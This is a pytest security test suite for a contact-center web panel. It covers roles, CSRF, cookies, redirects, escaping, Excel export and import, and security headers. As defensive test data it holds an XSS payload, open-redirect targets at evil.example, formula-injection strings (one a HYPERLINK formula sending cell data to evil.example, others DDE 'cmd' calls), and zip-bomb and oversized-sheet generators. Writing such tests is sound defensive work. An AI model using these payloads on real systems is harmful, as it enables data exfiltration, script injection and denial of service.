"""Security review of the panel, as an attacker and as a picky operator would probe it: every route's declared role
and CSRF, cookies and redirects, escaping of user data, formula injection in exports, hostile Excel uploads, and
the security headers on every kind of response.
"""

from __future__ import annotations

import io
import json
import re
import time
import zipfile
from typing import Any

import aiohttp
from openpyxl import Workbook, load_workbook
from panel_helpers import CSRF_FIELD, PASSWORD, Panel, UserSession

from contactd.panel import keys
from contactd.panel.routing import ROLE_RANK

# The only routes anyone may call without logging in; a new public route must be added here on purpose.
PUBLIC_ROUTES = {("GET", "/login"), ("POST", "/login"), ("GET", "/healthz"), ("GET", "/api/openapi.json"),
                 ("POST", "/api/sms/reports")}
# Unsafe routes without the session's CSRF token: the login form (its own double-submit token, there is no session
# yet) and the gateway's delivery report (authenticated by its shared X-Report-Token).
CSRF_EXEMPT = {("POST", "/login"), ("POST", "/api/sms/reports")}
UNSAFE = {"POST", "PUT", "PATCH", "DELETE"}
SAMPLES = {"action": "save", "kind": "return", "weekday": "mon", "date": "2030-01-01", "number": "1001",
           "token": "A" * 32}
PARAM = re.compile(r"\{(\w+)(?::[^{}]*(?:\{[^{}]*\}[^{}]*)*)?\}")


def concrete(path: str) -> str:
    """A route pattern with every {param:regex} replaced by a value the regex accepts."""
    return PARAM.sub(lambda m: SAMPLES.get(m.group(1), "1"), path)


async def _status(http: aiohttp.ClientSession, method: str, path: str, headers: dict[str, str] | None = None,
                  ) -> tuple[int, str, str]:
    async with http.request(method, path, headers=headers or {}, allow_redirects=False,
                            **({"json": {}} if method in UNSAFE else {})) as response:
        body = await response.text()
        return response.status, response.headers.get("Location", ""), body


def _routes(panel: Panel) -> list[Any]:
    return list(panel.app[keys.ROUTES])


# ---- roles -------------------------------------------------------------------------------------------------------
async def test_no_route_is_public_by_accident_and_only_two_skip_csrf(panel: Panel) -> None:
    routes = _routes(panel)
    assert len(routes) > 100
    public = {(r.method, r.path) for r in routes if r.role == "public"}
    assert public == PUBLIC_ROUTES
    exempt = {(r.method, r.path) for r in routes if r.method in UNSAFE and not r.csrf}
    assert exempt == CSRF_EXEMPT


async def test_every_route_refuses_logged_out_callers(panel: Panel) -> None:
    http = panel.anonymous()
    failures = []
    for info in _routes(panel):
        if info.role == "public":
            continue
        path = concrete(info.path)
        status, location, _ = await _status(http, info.method, path)
        if info.method == "GET" and not path.startswith("/api/"):
            ok = status == 302 and location.startswith("/login?next=")  # a page: off to the login form
        else:
            ok = status == 401
        if not ok:
            failures.append((info.method, path, status))
    assert failures == []


async def test_every_route_refuses_a_role_or_permission_below_its_declaration(panel: Panel) -> None:
    """kim is an agent without permissions, boss a supervisor: each route below its declaration answers 403
    (with a valid CSRF token, so the refusal is the role's, not the token's)."""
    kim, boss = await panel.login("kim"), await panel.login("boss")
    probes = 0
    failures = []
    for info in _routes(panel):
        if info.role == "public":
            continue
        below: list[UserSession] = []
        if ROLE_RANK[info.role] > ROLE_RANK["agent"] or info.permission:
            below.append(kim)
        if ROLE_RANK[info.role] > ROLE_RANK["supervisor"] or (info.permission and info.role == "supervisor"):
            below.append(boss)
        for user in below:
            status, _, body = await _status(user.http, info.method, concrete(info.path), user.headers())
            probes += 1
            if status != 403 or "auth.err.csrf" in body:
                failures.append((user.me["username"], info.method, info.path, status))
    assert probes > 60
    assert failures == []


async def test_every_unsafe_route_needs_the_csrf_token(panel: Panel) -> None:
    """admin passes every role check, so a 403 here can only be the missing (or wrong) token."""
    admin = await panel.login("admin")
    failures = []
    for info in _routes(panel):
        if info.method not in UNSAFE or (info.method, info.path) in CSRF_EXEMPT:
            continue
        path = concrete(info.path)
        for headers in ({}, {"X-CSRF-Token": admin.csrf[:-1] + ("x" if admin.csrf[-1] != "x" else "y")}):
            status, _, body = await _status(admin.http, info.method, path, headers)
            if status != 403 or "auth.err.csrf" not in body:
                failures.append((info.method, path, bool(headers), status))
    # a form posting another session's token is refused too
    other = await panel.login("boss")
    response = await admin.http.post("/customers/new", data={"name": "CSRF 피해자", "_csrf": other.csrf},
                                     allow_redirects=False)
    assert response.status == 403
    assert failures == []
    customers = (await admin.get_json("/api/customers", q="CSRF 피해자"))[1]["customers"]
    assert customers == []


async def test_sms_delivery_reports_need_the_gateway_token(panel: Panel) -> None:
    http = panel.anonymous()
    async with http.post("/api/sms/reports", json={"ref": "x", "status": "delivered"}) as response:
        assert response.status == 401  # no token configured: reports are off, an empty header matches nothing
    async with http.post("/api/sms/reports", json={"ref": "x", "status": "delivered"},
                         headers={"X-Report-Token": ""}) as response:
        assert response.status == 401


# ---- own-only rules (SMS cancel, call history and recordings: see test_sms.py, test_history_pages.py) ---------
async def test_ticket_entries_follow_the_author_rule_and_admins_hold_every_permission(panel: Panel) -> None:
    kim, lee, admin = await panel.login("kim"), await panel.login("lee"), await panel.login("admin")
    status, created = await kim.post_json("/api/tickets", {"title": "보안 점검 티켓", "body": "본문"})
    assert status == 201
    ticket_id = created["ticket"]["id"]
    status, entry = await kim.post_json(f"/api/tickets/{ticket_id}/entries", {"body": "김 상담원의 메모"})
    assert status == 201
    entry_id = entry["entry"]["id"]
    assert (await lee.request_json("PUT", f"/api/ticket-entries/{entry_id}", {"body": "이가 고침"}))[0] == 403
    assert (await lee.request_json("DELETE", f"/api/ticket-entries/{entry_id}"))[0] == 403
    # The ticket page offers admins the edit/delete buttons (routing.allowed: admins hold every permission);
    # the service honours the same rule (accounts give admins both permission flags), not refusing what it offered.
    page = await admin.http.get(f"/tickets/{ticket_id}")
    assert f"/tickets/entries/{entry_id}/edit" in await page.text()
    status, body = await admin.request_json("PUT", f"/api/ticket-entries/{entry_id}", {"body": "관리자가 고침"})
    assert status == 200, body
    entries = (await kim.get_json(f"/api/tickets/{ticket_id}"))[1]["entries"]
    assert [e["body"] for e in entries] == ["관리자가 고침"]


# ---- sessions, cookies, redirects, throttling -------------------------------------------------------------------
async def _login_response(panel: Panel, next_path: str) -> tuple[aiohttp.ClientSession, aiohttp.ClientResponse]:
    http = panel.anonymous()
    async with http.get("/login") as response:
        token = CSRF_FIELD.search(await response.text()).group(1)
    response = await http.post("/login", data={"username": "kim", "password": PASSWORD, "_csrf": token,
                                               "next": next_path}, allow_redirects=False)
    await response.read()
    return http, response


async def test_session_cookie_is_httponly_lax_and_secure_behind_https(make_panel, db) -> None:
    panel = await make_panel(db, settings={"secure_cookies": True})
    _, response = await _login_response(panel, "/")
    morsel = response.cookies["contactd_session"]
    assert morsel["httponly"] and morsel["secure"] and morsel["samesite"] == "Lax" and morsel["path"] == "/"
    assert 0 < int(morsel["max-age"]) <= 24 * 3600


async def test_login_never_redirects_off_site(panel: Panel) -> None:
    for target in ("//evil.example/", "/\\evil.example", "/\t/evil.example", "/\n/evil.example", "/\r/evil.example",
                   "https://evil.example/", "/%09/evil.example"):
        _, response = await _login_response(panel, target)
        assert response.status == 302
        location = response.headers["Location"]
        # Browsers drop tabs and newlines from URLs: "/\t/evil" would become "//evil", another site.
        cleaned = re.sub(r"[\x00-\x20\x7f]", "", location)
        assert cleaned.startswith("/") and not cleaned.startswith("//") and "\\" not in cleaned, (target, location)


async def test_the_session_key_and_cookie_never_appear_in_responses(panel: Panel) -> None:
    kim = await panel.login("kim")
    cookie = next(c.value for c in kim.http.cookie_jar if c.key == "contactd_session")
    key = panel.services.config.web.session_key
    for path in ("/", "/api/me", "/api/openapi.json", "/healthz", "/customers", "/sms/compose"):
        async with kim.http.get(path) as response:
            text = await response.text()
        assert key not in text and cookie not in text and cookie.split(".")[1] not in text, path


async def test_login_throttle_does_not_let_the_right_password_through(make_panel, db) -> None:
    panel = await make_panel(db, settings={"login_limit": 2})
    http = panel.anonymous()
    async with http.get("/login") as response:
        token = CSRF_FIELD.search(await response.text()).group(1)
    for _ in range(2):
        async with http.post("/login", data={"username": "kim", "password": "wrong", "_csrf": token}) as response:
            assert response.status == 401
    async with http.post("/login", data={"username": "kim", "password": PASSWORD, "_csrf": token},
                         allow_redirects=False) as response:
        assert response.status == 429
        assert "contactd_session" not in response.cookies


# ---- injection -------------------------------------------------------------------------------------------------
EVIL_NAME = '</script><script>alert("x")</script><img src=x onerror=alert(1)>'


async def test_autoescape_is_on_for_every_template(panel: Panel) -> None:
    env = panel.app[keys.RENDERER].env
    names = env.list_templates()
    assert names and all(name.endswith(".html") for name in names)
    assert callable(env.autoescape) and all(env.autoescape(name) for name in names)
    assert str(env.from_string("{{ x }}").render(x="<b>")) == "&lt;b&gt;"


async def test_hostile_customer_name_is_escaped_on_pages_and_in_script_json(panel: Panel) -> None:
    kim = await panel.login("kim")
    status, created = await kim.post_json("/api/customers", {"name": EVIL_NAME[:100], "mobile": "010-5550-0303"})
    assert status == 201, created
    customer_id = created["customer"]["id"]
    await kim.post_json("/api/tickets", {"title": EVIL_NAME, "customer_id": customer_id})
    for path in ("/customers?q=010-5550-0303", f"/customers/{customer_id}", f"/customers/{customer_id}?tab=tickets",
                 f"/customers/{customer_id}?tab=sms", f"/customers/{customer_id}?tab=orders",
                 "/consultations", f"/tickets/new?customer_id={customer_id}",
                 f"/sms/compose?to=01055500303&name={aiohttp.helpers.quote(EVIL_NAME)}"):
        async with kim.http.get(path) as response:
            assert response.status == 200, path
            html = await response.text()
        assert "<script>alert" not in html and "<img src=x" not in html, path
    # The compose page hands the name to its script as JSON: it must survive the round trip unchanged.
    data = re.search(r'<script type="application/json" id="sms-data">(.*?)</script>', html, re.S)
    assert data is not None
    assert json.loads(data.group(1))["initial"][0]["name"] == EVIL_NAME


def _xlsx_cells(body: bytes) -> list[Any]:
    with zipfile.ZipFile(io.BytesIO(body)) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml  # no formula anywhere in the sheet
    ws = load_workbook(io.BytesIO(body)).active
    return [cell for row in ws.iter_rows() for cell in row]


FORMULAS = ('=HYPERLINK("http://evil.example/?"&A1,"클릭")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)")


async def test_customer_export_defuses_formulas_in_names(panel: Panel) -> None:
    kim, park = await panel.login("kim"), await panel.login("park")
    for i, name in enumerate(FORMULAS):
        status, body = await kim.post_json("/api/customers", {"name": name, "mobile": f"010-5550-040{i}",
                                                              "memo": "=1+1"})
        assert status == 201, body
    async with park.http.get("/customers/export.xlsx", params={"q": "010-5550-040"}) as response:
        assert response.status == 200
        body = await response.read()
    cells = _xlsx_cells(body)
    values = {cell.value for cell in cells}
    for name in FORMULAS:
        assert name in values  # kept as the exact text ...
    for cell in cells:
        if isinstance(cell.value, str) and cell.value[:1] in "=+-@":
            assert cell.data_type == "s" and cell.quotePrefix, cell.value  # ... which Excel shows as text


async def test_consultation_export_defuses_formulas_in_titles(panel: Panel) -> None:
    kim, park = await panel.login("kim"), await panel.login("park")
    assert (await kim.post_json("/api/tickets", {"title": "=cmd|'/C calc'!A0", "body": "@evil"}))[0] == 201
    async with park.http.get("/consultations/export.xlsx") as response:
        assert response.status == 200
        cells = _xlsx_cells(await response.read())
    assert "=cmd|'/C calc'!A0" in {c.value for c in cells}


# ---- hostile uploads ---------------------------------------------------------------------------------------------
def _workbook(rows: list[list[Any]]) -> bytes:
    wb = Workbook()
    for row in rows:
        wb.active.append(row)
    buffer = io.BytesIO()
    wb.save(buffer)
    return buffer.getvalue()


def _rewrite(xlsx: bytes, member: str, chunks: Any) -> bytes:
    """The same workbook with `member` replaced by the streamed chunks (deflated)."""
    source = zipfile.ZipFile(io.BytesIO(xlsx))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            if item.filename == member:
                info = zipfile.ZipInfo(member)
                info.compress_type = zipfile.ZIP_DEFLATED
                with target.open(info, "w", force_zip64=True) as fh:
                    for chunk in chunks:
                        fh.write(chunk)
            else:
                target.writestr(item, source.read(item.filename), zipfile.ZIP_DEFLATED)
    return out.getvalue()


def _zip_bomb() -> bytes:
    """~1 MB on the wire, 300 MB of sheet XML once unpacked."""
    base = _workbook([["이름", "휴대폰"], ["홍길동", "010-5550-0501"]])
    head = (b'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/'
            b'spreadsheetml/2006/main"><sheetData>')
    filler = b" " * (1024 * 1024)
    return _rewrite(base, "xl/worksheets/sheet1.xml",
                    [head, *([filler] * 300), b"</sheetData></worksheet>"])


def _absurd_dimension() -> bytes:
    """A few KB claiming a sheet of 16384 columns x 1048576 rows, with cells at both far corners."""
    base = _workbook([["x"]])
    xml = (b'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/'
           b'spreadsheetml/2006/main"><dimension ref="A1:XFD1048576"/><sheetData>'
           + b"".join(b'<row r="%d"><c r="A%d" t="inlineStr"><is><t>010-5550-0601</t></is></c>'
                      b'<c r="XFD%d"><v>1</v></c></row>' % (i, i, i) for i in range(1, 2001))
           + b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData></worksheet>')
    return _rewrite(base, "xl/worksheets/sheet1.xml", [xml])


async def _upload(user: UserSession, path: str, data: bytes, **fields: str) -> tuple[int, Any, float]:
    form = aiohttp.FormData()
    form.add_field("file", data, filename="upload.xlsx",
                   content_type="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet")
    for name, value in fields.items():
        form.add_field(name, value)
    started = time.monotonic()
    async with user.http.post(path, data=form, headers=user.headers()) as response:
        body = await response.json()
        return response.status, body, time.monotonic() - started


async def test_excel_zip_bomb_is_refused_before_it_is_unpacked(panel: Panel) -> None:
    bomb = _zip_bomb()
    assert len(bomb) < 2 * 1024 * 1024
    boss, kim = await panel.login("boss"), await panel.login("kim")
    for user, path, fields in ((boss, "/api/customers/import/preview", {}),
                               (boss, "/api/customers/import", {"col_name": "A", "col_mobile": "B"}),
                               (kim, "/api/sms/recipients/excel/preview", {}),
                               (kim, "/api/sms/recipients/excel", {"mobile_column": "B"})):
        status, body, seconds = await _upload(user, path, bomb, **fields)
        assert status == 422 and body["code"] == "import.err.too_big", (path, body)
        assert seconds < 2.0, path


async def test_excel_with_an_absurd_sheet_size_stays_quick(panel: Panel) -> None:
    data = _absurd_dimension()
    boss, kim = await panel.login("boss"), await panel.login("kim")
    status, body, seconds = await _upload(boss, "/api/customers/import/preview", data)
    assert status == 200 and seconds < 5.0
    assert len(body["sheets"][0]["rows"]) <= 8 and max(len(r) for r in body["sheets"][0]["rows"]) <= 100
    status, body, seconds = await _upload(kim, "/api/sms/recipients/excel", data, mobile_column="A")
    # 2000 rows of the same number, then a million empty rows: refused as too many rows, promptly
    assert seconds < 10.0, seconds
    assert status == 422 and body["code"] == "import.err.too_many", body


async def test_not_an_xlsx_and_oversized_bodies_are_refused_gracefully(panel: Panel) -> None:
    boss = await panel.login("boss")
    status, body, _ = await _upload(boss, "/api/customers/import/preview", b"PK\x03\x04 not really a zip")
    assert status == 422 and body["code"] == "import.err.not_xlsx"
    form = aiohttp.FormData()
    form.add_field("file", b"\0" * (21 * 1024 * 1024), filename="big.xlsx")
    async with boss.http.post("/api/customers/import/preview", data=form, headers=boss.headers()) as response:
        assert response.status == 413


# ---- headers -----------------------------------------------------------------------------------------------------
def _assert_security_headers(response: aiohttp.ClientResponse, what: str) -> None:
    headers = response.headers
    assert headers.get("X-Content-Type-Options") == "nosniff", what
    assert headers.get("X-Frame-Options") == "DENY", what
    assert headers.get("Referrer-Policy") == "same-origin", what
    csp = headers.get("Content-Security-Policy", "")
    assert "default-src 'self'" in csp and "frame-ancestors 'none'" in csp and "unsafe-inline" not in csp, what


async def test_security_headers_on_every_kind_of_response(panel: Panel) -> None:
    kim = await panel.login("kim")
    anonymous = panel.anonymous()
    for http, path in ((kim.http, "/"), (kim.http, "/api/me"), (kim.http, "/static/app.css"),
                       (kim.http, "/customers/999999"),  # handler raises 404
                       (kim.http, "/no/such/page"),  # router 404
                       (kim.http, "/admin/users"),  # 403 page
                       (anonymous, "/customers"),  # redirect to the login form
                       (anonymous, "/api/customers")):  # 401
        async with http.get(path, allow_redirects=False) as response:
            _assert_security_headers(response, f"{path} {response.status}")


async def test_consultation_keyword_is_text_not_a_like_pattern(panel: Panel) -> None:
    kim = await panel.login("kim")
    assert (await kim.post_json("/api/tickets", {"title": "할인 100% 문의"}))[0] == 201
    assert (await kim.post_json("/api/tickets", {"title": "할인 1000원 문의"}))[0] == 201
    status, body = await kim.get_json("/api/consultations", keyword="100%")
    assert status == 200 and [r["title"] for r in body["consultations"]] == ["할인 100% 문의"]
    status, body = await kim.get_json("/api/consultations", keyword="_")
    assert status == 200 and body["consultations"] == []


async def test_export_with_a_bad_search_field_is_an_error_page_not_a_crash(panel: Panel) -> None:
    park = await panel.login("park")
    async with park.http.get("/customers/export.xlsx", params={"field": "password_hash"}) as response:
        assert response.status == 422
